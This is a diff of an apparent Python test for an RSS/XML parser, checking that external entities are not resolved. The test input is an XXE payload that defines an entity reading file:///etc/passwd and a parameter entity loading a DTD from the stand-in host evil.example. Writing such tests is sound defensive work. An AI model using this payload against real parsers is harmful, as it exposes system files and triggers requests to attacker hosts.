@@ -314,7 +314,7 @@ def test_what_is_no_feed_or_made_to_hurt_is_refused_at_once(body):
 
 def test_no_file_is_opened_for_an_entity_and_the_rest_is_read():
     prolog = """<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">
-    <!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://evil.example/xhtml-lat1.ent"> %HTMLlat1;]>"""
+    <!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://evil.example/"> %HTMLlat1;]>"""
 
     parsed = read(rss("<title>x&e;y</title>", "<title>caf&eacute;</title>", prolog=prolog))
 
